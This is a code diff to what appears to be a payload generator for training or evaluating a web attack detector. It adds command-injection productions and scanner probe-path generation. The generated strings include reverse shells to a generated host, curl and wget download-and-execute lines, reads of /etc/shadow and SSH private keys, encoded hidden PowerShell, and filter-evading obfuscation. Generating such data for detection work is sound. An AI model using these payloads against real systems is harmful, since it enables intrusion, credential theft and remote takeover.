@@ -142,16 +142,35 @@ TRAVERSAL = (
     Production("trav.null_ext", "traversal", lambda r: f"{'../' * r.randint(3, 8)}{_file(r)}%00.{r.choice(('png', 'jpg', 'html', 'pdf'))}", ("query", "path")),
 )
 
+def _sep(rng: random.Random) -> str:
+    """A command separator or substitution opener, shared by every command-injection production."""
+    return rng.choice((";", "; ", "|", "||", "&&", "&", " && ", "%0a", "\n", "`", "$(", "%3B", "%7C", "%26%26"))
+
+
+def _inject(rng: random.Random, command: str) -> str:
+    prefix = rng.choice(("", "", "127.0.0.1", "x", "1", "test.txt", "8.8.8.8", "google.com"))
+    sep = _sep(rng)
+    if sep == "`":
+        return f"{prefix}`{command}`"
+    if sep == "$(":
+        return f"{prefix}$({command})"
+    if sep == "\n":
+        sep = chr(10)
+    return f"{prefix}{sep}{command}{rng.choice(('', '', ';', ' #', '%00'))}"
+
+
+# Command injection, by what the injected command does; separators and substitution
+# forms are shared (``_sep``), so a held-out production is a new command, not a new "|".
 CMDI = (
-    Production("cmdi.semicolon", "cmdi", lambda r: f"{r.choice(('', _n(r), '127.0.0.1', 'x'))};{r.choice(('', ' '))}{_unix_cmd(r)}"),
-    Production("cmdi.pipe", "cmdi", lambda r: f"{r.choice(('', _n(r), 'a'))}{r.choice(('|', '||', ' | '))}{_unix_cmd(r)}"),
-    Production("cmdi.backtick", "cmdi", lambda r: f"{r.choice(('', 'x', _n(r)))}`{_unix_cmd(r)}`"),
-    Production("cmdi.subshell", "cmdi", lambda r: f"{r.choice(('', 'x', _n(r)))}$({_unix_cmd(r)})"),
-    Production("cmdi.and", "cmdi", lambda r: f"{r.choice(('', '127.0.0.1', 'x'))}{r.choice(('&&', '&', ' && '))}{_unix_cmd(r)}"),
-    Production("cmdi.newline", "cmdi", lambda r: f"{r.choice(('', 'x'))}{r.choice(('%0a', '%0d%0a', chr(10)))}{_unix_cmd(r)}"),
-    Production("cmdi.windows", "cmdi", lambda r: r.choice((f"& {r.choice(('whoami', 'ipconfig /all', 'type C:' + chr(92) + 'windows' + chr(92) + 'win.ini', 'net user'))}", f"| powershell -nop -w hidden -enc {''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(r.randint(20, 60)))}", f"& certutil -urlcache -split -f http://{_host(r)}/x.exe x.exe & x.exe", f"| cmd.exe /c {r.choice(('dir', 'whoami', 'ver'))}"))),
-    Production("cmdi.ifs", "cmdi", lambda r: r.choice((";cat${IFS}/etc/passwd", "|cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", f";curl${{IFS}}{_host(r)}", ";w'h'o'am'i", ";/???/??t /???/p??s??"))),
-    Production("cmdi.shellshock", "cmdi", lambda r: f"() {{ :; }}; {r.choice(('echo; /bin/bash -c ' + chr(39) + _unix_cmd(r) + chr(39), '/bin/sleep ' + str(r.randint(5, 20)), 'echo vulnerable'))}", ("header",)),
+    Production("cmdi.recon", "cmdi", lambda r: _inject(r, r.choice(("id", "whoami", "uname -a", "hostname", "ifconfig", "ip a", "ps aux", "env", "pwd", "ls -la", "ls /")))),
+    Production("cmdi.read", "cmdi", lambda r: _inject(r, r.choice(("cat /etc/passwd", "cat /etc/shadow", "head -n 5 /etc/passwd", "cat ~/.ssh/id_rsa", "tail /var/log/auth.log", "more /etc/hosts", "cat${IFS}/etc/passwd", "less /proc/self/environ")))),
+    Production("cmdi.download", "cmdi", lambda r: _inject(r, r.choice((f"curl http://{_host(r)}/x.sh|sh", f"wget http://{_host(r)}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", f"curl -s {_host(r)}/i|bash", f"wget -qO- {_host(r)}/m.sh|sh", f"tftp -g -r x {_host(r)}", f"busybox wget http://{_host(r)}/mips")))),
+    Production("cmdi.timing", "cmdi", lambda r: _inject(r, r.choice((f"sleep {r.randint(5, 30)}", f"ping -c {r.randint(3, 20)} 127.0.0.1", f"ping -n {r.randint(3, 20)} 127.0.0.1", f"timeout {r.randint(5, 20)}", f"sleep${{IFS}}{r.randint(5, 30)}")))),
+    Production("cmdi.oob", "cmdi", lambda r: _inject(r, r.choice((f"nslookup {_host(r)}", f"dig {_host(r)}", f"ping -c 1 {_host(r)}", f"curl {_host(r)}/$(whoami)", f"host {_host(r)}")))),
+    Production("cmdi.shell", "cmdi", lambda r: _inject(r, r.choice((f"nc -e /bin/sh {_host(r)} 4444", f"bash -i >& /dev/tcp/{_host(r)}/443 0>&1", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {_host(r)} 1234 >/tmp/f", f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{_host(r)}\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", f"socat tcp:{_host(r)}:443 exec:sh")))),
+    Production("cmdi.windows", "cmdi", lambda r: _inject(r, r.choice(("whoami /all", "ipconfig /all", "type C:\\windows\\win.ini", "net user", "dir C:\\", f"powershell -nop -w hidden -enc {''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(r.randint(20, 60)))}", f"certutil -urlcache -split -f http://{_host(r)}/x.exe x.exe", "cmd.exe /c ver")))),
+    Production("cmdi.obfuscated", "cmdi", lambda r: r.choice((";cat${IFS}/etc/passwd", "|cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", f";curl${{IFS}}{_host(r)}", ";w'h'o'am'i", ";/???/??t /???/p??s??", "|$(echo d2hvYW1p|base64 -d)", ";c\\at /e\\tc/pa\\sswd", "&&$'\\x69\\x64'"))),
+    Production("cmdi.shellshock", "cmdi", lambda r: f"() {{ :; }}; {r.choice(('echo; /bin/bash -c ' + chr(39) + _unix_cmd(r) + chr(39), '/bin/sleep ' + str(r.randint(5, 20)), 'echo vulnerable', '/bin/cat /etc/passwd'))}", ("header",)),
 )
 
 OTHER = (
@@ -239,10 +258,25 @@ def productions(split: Split, kind: str | None = None) -> tuple[Production, ...]
 
 
 def probe_paths(split: Split) -> tuple[str, ...]:
-    """Scanner probe paths of one split: the families split, then paths within each family."""
+    """Scanner probe paths of one split (held out path by path within each family)."""
     out: list[str] = []
     for family, paths in PROBE_PATHS:
         for path in paths:
             if held_out("probe", f"{family}:{path}") == (split == "eval"):
                 out.append(path)
     return tuple(out)
+
+
+_PROBE_PREFIXES = ("", "", "", "/old", "/backup", "/wp", "/blog", "/api", "/admin", "/site", "/new", "/test", "/v1", "/public", "/app",
+                   "/www", "/dev", "/staging", "/cms", "/web")
+_PROBE_SUFFIXES = ("", "", "", "", ".bak", "~", ".old", ".save", ".swp", ".orig", ".txt", ".1")
+
+
+def probe(rng: random.Random, split: Split) -> str:
+    """A probe as scanners send it: a known path under a guessed prefix, sometimes a backup-file suffix."""
+    path = rng.choice(probe_paths(split))
+    if "?" not in path and rng.random() < 0.5:
+        path = rng.choice(_PROBE_PREFIXES) + path
+        if not path.endswith("/"):
+            path += rng.choice(_PROBE_SUFFIXES)
+    return path
